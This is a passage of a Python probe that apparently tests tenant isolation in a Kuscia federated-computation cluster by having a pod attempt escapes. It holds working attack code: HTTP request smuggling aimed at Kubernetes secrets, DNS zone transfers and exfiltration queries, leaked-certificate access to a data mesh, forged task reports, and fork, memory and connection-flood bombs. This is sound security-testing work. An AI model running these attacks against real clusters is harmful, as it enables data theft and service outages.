    CASES["original destination header"] = lambda: never_reached(
        asked_allowed(
            "original destination header", X_Envoy_Original_Dst_Host="%s:%d" % tuple(P["ports"]["own KusciaAPI"])
        )
    )
    CASES["absolute form"] = lambda: judged(
        exchange(request(P["allowed host"], "http://{}/{}".format(API, mark("absolute form"))))
    )
    CASES["absolute form, allowed in the line"] = lambda: never_reached(
        exchange(request(API, "http://{}/{}".format(P["allowed host"], mark("absolute form, allowed in the line"))))
    )
    CASES["absolute form, HTTP/1.0"] = lambda: judged(
        exchange(request(None, "http://{}/{}".format(API, mark("absolute form, HTTP/1.0")), version="HTTP/1.0"))
    )
    CASES["absolute form to an address"] = lambda: judged(
        exchange(request("x", "http://%s:%d/%s" % (*P["ports"]["own API"], mark("absolute form to an address"))))
    )
    CASES["two hosts"] = lambda: never_reached(exchange(request(P["allowed host"], "/" + mark("two hosts"), HOST=API)))
    CASES["no host"] = lambda: judged(exchange(request(None, "/" + mark("no host"), version="HTTP/1.0")))
    CASES["CONNECT to the API"] = lambda: judged(exchange(request(API + ":80", API + ":80", method="CONNECT")))
    CASES["CONNECT to an address"] = lambda: judged(
        exchange(
            request("%s:%d" % tuple(P["ports"]["own API"]), "%s:%d" % tuple(P["ports"]["own API"]), method="CONNECT")
        )
    )
    CASES["CONNECT to the other gateway"] = lambda: judged(
        exchange(
            request(
                "%s:%d" % tuple(P["ports"]["other gateway"]),
                "%s:%d" % tuple(P["ports"]["other gateway"]),
                method="CONNECT",
            )
        )
    )
    CASES["h2c upgrade"] = lambda: asked(
        API,
        "h2c upgrade",
        Connection="Upgrade, HTTP2-Settings",
        Upgrade="h2c",
        HTTP2_Settings="AAMAAABkAAQAoAAAAAIAAAAA",
    )
    CASES["websocket upgrade"] = lambda: asked(
        API,
        "websocket upgrade",
        Connection="Upgrade",
        Upgrade="websocket",
        Sec_WebSocket_Key="eA==",
        Sec_WebSocket_Version="13",
    )
    CASES["smuggled request"] = smuggled
    CASES["pipelined request"] = pipelined
    CASES["HTTP/2"] = lambda: http2_request(API, "HTTP/2")
    CASES["HTTP/2 with another host"] = lambda: http2_request(
        P["allowed host"], "HTTP/2 with another host", ("host", API)
    )
    CASES["HTTP/2 host without authority"] = lambda: http2(
        (":method", "GET"), (":scheme", "http"), (":path", "/" + mark("HTTP/2 host without authority")), ("host", API)
    )
    CASES["HTTP/2 two authorities"] = lambda: http2_request(
        P["allowed host"], "HTTP/2 two authorities", (":authority", API)
    )
    CASES["HTTP/2 CONNECT"] = lambda: http2((":method", "CONNECT"), (":authority", API + ":80"))
    CASES["HTTP/2 extended CONNECT"] = lambda: http2_request(
        API, "HTTP/2 extended CONNECT", (":protocol", "websocket"), method="CONNECT"
    )
    CASES["handshake as the own domain"] = lambda: judged(
        exchange(
            request(
                "kuscia-handshake.bob.svc",
                "/handshake" + mark("handshake as the own domain"),
                method="POST",
                body=b"{}",
            )
        )
    )
    CASES["registration"] = lambda: judged(
        exchange(request("kuscia-handshake.master.svc", "/register" + mark("registration"), method="POST", body=b"{}"))
    )
    CASES["gateway's administration"] = lambda: judged(
        exchange(request("localhost", "/config_dump" + mark("gateway's administration")))
    )


def asked_allowed(name, **headers):
    return exchange(request(P["allowed host"], "/" + mark(name), **headers))


def never_reached(answer):
    """A host that may be called was: then by nobody else than its owner."""
    line = answer.split(b"\r\n", 1)[0].decode(errors="replace")
    if b"Secret" in answer or b"kubernetes" in answer.lower() or b'"kind"' in answer:
        return answer[:200]
    raise Refused(line or "connection closed")


def smuggled():
    """A second request in the body of the first, by two lengths that disagree."""
    second = request(API, "/api/v1/namespaces/alice/secrets" + mark("smuggled request"))
    first = "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    return never_reached(exchange((first % (P["allowed host"], 5 + len(second))).encode() + second))


def pipelined():
    first = "GET / HTTP/1.1\r\nHost: {}\r\n\r\n".format(P["allowed host"])
    second = request(API, "/api/v1/namespaces/alice/secrets" + mark("pipelined request"))
    return never_reached(exchange(first.encode() + second))


# ---- names ----


def dns_query(name, kind=1, tcp=False, klass=1):
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.rstrip(".").split(".") if each)
    data = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, klass)
    if tcp:
        with connected(P["gateway"], 53, timeout=3.0) as made:
            made.sendall(struct.pack(">H", len(data)) + data)
            answer = made.recv(65536)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.settimeout(3.0)
            made.sendto(data, (P["gateway"], 53))
            answer = made.recv(65536)
    code, answers = answer[3] & 15, struct.unpack_from(">H", answer, 6)[0]
    if code or not answers:
        raise Refused("code %d, %d answers" % (code, answers))
    return answer


def resolved(name, never):
    """Addresses, which must not be one of those."""
    answer = dns_query(name)
    wrong = [each for each in never if socket.inet_aton(each) in answer]
    if not wrong:
        raise Refused("only the own gateway")
    return wrong


def name_cases():
    CASES["name of another domain's pod"] = lambda: resolved(P["other pod name"], P["other pod addresses"])
    CASES["zone transfer"] = lambda: dns_query("alice.svc", 252, tcp=True)
    CASES["zone transfer of everything"] = lambda: dns_query(".", 252, tcp=True)
    CASES["any record"] = lambda: dns_query("apiserver.alice.svc", 255)
    CASES["version of the server"] = lambda: dns_query("version.bind", 16, klass=3)
    CASES["relay to a foreign name"] = lambda: dns_query("exfiltrated-{}.canary.test".format(P["kind"]))
    CASES["relay to a foreign name, TCP"] = lambda: dns_query(
        "exfiltrated-tcp-{}.canary.test".format(P["kind"]), tcp=True
    )
    CASES["relay to a foreign name, TXT"] = lambda: dns_query("exfiltrated-txt-{}.canary.test".format(P["kind"]), 16)
    CASES["update of a zone"] = dns_update


def dns_update():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(3.0)
        made.sendto(struct.pack(">HHHHHH", 7, 0x2800, 1, 0, 0, 0) + b"\5alice\3svc\0\0\6\0\1", (P["gateway"], 53))
        code = made.recv(512)[3] & 15
    if code:
        raise Refused("code %d" % code)
    return "updated"


# ---- identity ----


def mesh(certificate, path="/api/v1/datamesh/domaindata/query", body=None, port=8070):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if certificate is not None:
        context.load_cert_chain(*certificate)
    data = json.dumps(body if body is not None else dict(domaindata_id=P["table"])).encode()
    head = "POST %s HTTP/1.1\r\nHost: datamesh\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
    with connected(P["gateway"], port, timeout=6.0) as plain, context.wrap_socket(plain) as made:
        made.sendall((head % (path, len(data))).encode() + data)
        answer = b""
        while piece := made.recv(65536):
            answer += piece
    text = answer.partition(b"\r\n\r\n")[2]
    if not answer:
        raise Refused("connection closed")
    found = json.loads(text)
    if found["status"]["code"]:
        raise Refused(found["status"]["message"])
    return found


def own_pair():
    return tuple(os.path.join(P["certificates"], name) for name in ("client.crt", "client.key"))


def leaked(label):
    pair = []
    for part, text in zip(("crt", "key"), P["pairs"][label], strict=True):
        pair.append("/tmp/%s-%d.%s" % (label.replace(" ", "-"), os.getpid(), part))
        write(pair[-1], text)
    return tuple(pair)


def reported(task, host="reporter.master.svc"):
    answer = exchange(
        request(
            host,
            "/report/progress?task_id={}".format(task),
            "POST",
            body=b'{"progress": 0.9}',
            Content_Type="application/json",
        )
    )
    head, _, body = answer.partition(b"\r\n\r\n")
    if b" 200 " not in head.split(b"\r\n")[0] + b" ":
        raise Refused(head.split(b"\r\n")[0].decode())
    if json.loads(body).get("code", json.loads(body).get("status", {}).get("code")):
        raise Refused(body.decode())
    return body


def identity_cases():
    CASES["data mesh without certificate"] = lambda: mesh(None)
    CASES["data mesh in plain text"] = lambda: judged(
        exchange(request("datamesh", "/api/v1/datamesh/domaindata/query", "POST", body=b"{}"), port=8070)
    )
    for label in P["pairs"]:
        CASES["data mesh with " + label] = lambda label=label: mesh(leaked(label))
    if P["kind"] != "ordinary":
        CASES["data without a grant"] = lambda: mesh(own_pair())
        CASES["data mesh, place of a source"] = place_of_source
        CASES["data mesh, grant to itself"] = lambda: mesh(
            own_pair(),
            "/api/v1/datamesh/domaindatagrant/create",
            dict(domaindata_id=P["table"], grant_domain="bob", author="alice"),
        )
        CASES["data mesh, change of the table"] = lambda: mesh(
            own_pair(), "/api/v1/datamesh/domaindata/update", dict(domaindata_id=P["table"], name="stolen")
        )
        CASES[LAST] = lambda: mesh(own_pair(), "/api/v1/datamesh/domaindata/delete", dict(domaindata_id=P["table"]))
    other = P["other task"]
    CASES["report for another task"] = lambda: reported(other)
    if P["kind"] != "ordinary":
        CASES["report for another task, two names"] = lambda: reported("%s&task_id=%s" % (other, P["own task"]))
        CASES["report for another task, own name first"] = lambda: reported("%s&task_id=%s" % (P["own task"], other))
        CASES["report for another task, by the domain's name"] = lambda: reported(other, "reporter.alice.svc")


def place_of_source():
    found = mesh(own_pair(), "/api/v1/datamesh/domaindatasource/query", dict(datasource_id="default-data-source"))
    if not found["data"]["info"]:
        raise Refused("its kind, but not where it is")
    return found


# ---- floods ----


def connections():
    """As many connections to the gateway as there can be, kept open without a word."""
    kept = []
    resource.setrlimit(resource.RLIMIT_NOFILE, resource.getrlimit(resource.RLIMIT_NOFILE)[1:] * 2)
    try:
        while len(kept) < 5000:
            kept.append(connected(P["gateway"], 80))
    except OSError:
        pass
    return kept


def flood():
    """Connections, half requests and questions, until the test has seen that others are served."""
    kept = connections()
    for each in kept[:1000]:
        with contextlib.suppress(OSError):
            each.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    talk("flooding %d" % len(kept))
    end = time.monotonic() + P["flood seconds"]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.setblocking(False)
        number = 0
        while time.monotonic() < end:
            number += 1
            question = b"\0\7\1\0\0\1\0\0\0\0\0\0" + bytes([8]) + b"%08d" % (number % 10**8) + b"\5alice\3svc\0\0\1\0\1"
            with contextlib.suppress(OSError):
                asker.sendto(question, (P["gateway"], 53))
            with contextlib.suppress(OSError):
                asker.recv(4096)
    for each in kept:
        each.close()


def bomb(kind):
    if kind == "fork":
        children = 0
        while True:
            try:
                if os.fork() == 0:
                    signal.pause()
                    os._exit(0)
                children += 1
            except OSError as problem:
                talk("stopped after %d: %s" % (children, errno_name(problem)))
                time.sleep(3600)
    elif kind == "memory":
        talk("allocating")
        kept = []
        while True:
            kept.append(bytearray(b"x") * (8 << 20))
    elif kind == "shared":
        talk("allocating")
        kept = []
        while True:
            block = mmap.mmap(-1, 8 << 20)
            block.write(b"x" * (8 << 20))
            kept.append(block)
    elif kind == "shm":
        talk("writing")
        with open("/dev/shm/fill", "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
                file.flush()
    elif kind == "disk":
        talk("writing")
        for number in range(1, 10_000):
            with open("/tmp/fill-%d" % number, "wb") as file:
                file.write(b"x" * (4 << 20))
            time.sleep(0.01)
    elif kind == "deleted":
        talk("writing")
        kept = []
        for number in range(1000):
            kept.append(open("/tmp/deleted-%d" % number, "wb"))  # noqa: SIM115
            os.unlink("/tmp/deleted-%d" % number)
            kept[-1].write(b"x" * (4 << 20))
            kept[-1].flush()
            time.sleep(0.01)
    elif kind == "output":
        line = b"x" * 1000 + b"\n"
        end = time.monotonic() + P["flood seconds"]
        while time.monotonic() < end:
            os.write(1, line * 50)
        os.write(1, b"\nflooded\n")
        time.sleep(3600)
    elif kind == "flood":
        flood()
        talk("flooded")
        time.sleep(3600)


# ---- the program ----


def talk(text):
    os.write(1, (text + "\n").encode())


def controls():
    """What every pod may do. Without these the refusals would prove nothing."""
    CASES["control: own file"] = lambda: write("/tmp/own") and read("/tmp/own")
    CASES["control: name of the gateway"] = lambda: dns_query(
        "gateway.alice.svc" if not P.get("peer host") else P["peer host"]
    )
    CASES["control: gateway answers"] = lambda: (
        exchange(request("nobody.alice.svc", "/")).index(b"HTTP/1.1 40") or "yes"
    )
    CASES["control: data mesh listens"] = lambda: connected(P["gateway"], 8071).close() or "yes"
    if P.get("peer host"):
        CASES["control: peer"] = peer_answers
        CASES["control: report"] = lambda: reported(P["own task"])


def peer_answers():
    """It may start later than this pod."""
    end = time.monotonic() + SECONDS - 2
    while b"engine of bob" not in (answer := exchange(request(P["peer host"], "/hello"))):
        if time.monotonic() > end:
            raise Refused(answer[:200])
        time.sleep(0.2)
    return "yes"


GROUPS = dict(
    controls=controls,
    files=file_cases,
    processes=process_cases,
    network=network_cases,
    gateway=gateway_cases,
    names=name_cases,
    identity=identity_cases,
)


def serve(word, port):
    """As an engine or a service would: TCP says its word first, then HTTP; UDP answers."""
    text = word.encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", str(len(text)))
            self.end_headers()
            self.wfile.write(text)

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("0.0.0.0", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def datagrams():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.bind(("0.0.0.0", port))
            while True:
                _, sender = made.recvfrom(64)
                made.sendto(text, sender)

    threading.Thread(target=datagrams, daemon=True).start()
    talk("serving " + word)


def own_descriptors():
    found = attempt(lambda: descriptors("self"))

    def again():
        if found[0] == "succeeded":
            return found[1]
        raise Refused(found[1])

    return again


def task_values(path):
    with open(path) as file:
        return json.load(file)


def run_case(name, function):
    begun = time.monotonic()
    result = isolated(function)
    talk("CASE " + json.dumps([name, *result, round(time.monotonic() - begun, 2)]))


def main():
    global INHERITED
    INHERITED = own_descriptors()
    if len(sys.argv) > 1:
        known = task_values(sys.argv[1])
        P.update(json.loads(base64.b64decode(known["input"])))
        P["own task"], domain = known["task"], known["domain"]
        peers = [each for each in json.loads(known["cluster"])["parties"] if each["name"] != domain]
        P["peer host"] = next((s["endpoints"][0] for each in peers for s in each["services"]), "").partition(":")[0]
        P["certificates"] = os.path.join(os.getcwd(), "kuscia/certs")
        P["allowed host"] = P["peer host"]
        port = int(os.environ["KUSCIA_PORT_TALK_NUMBER"])
        if domain != "alice" or P["mode"] == "serve":
            serve("engine of " + domain, port)
            signal.pause()
    else:
        P.update(json.loads(os.environ["PROBE_INPUT"]))
        if P["mode"] == "serve":
            serve(P["word"], P["port"])
            signal.pause()
    if P["mode"] != "probe":
        bomb(P["mode"])
        return
    for register in GROUPS.values():
        register()
    waiting = [each for each in reversed(CASES.items()) if each[0] != LAST]

    def work():
        while waiting:
            run_case(*waiting.pop())

    workers = [threading.Thread(target=work) for _ in range(8)]
    for each in workers:
        each.start()
    for each in workers:
        each.join()
    if LAST in CASES:
        run_case(LAST, CASES[LAST])
    talk("DONE %d" % len(CASES))
    signal.pause()


if __name__ == "__main__":
    main()
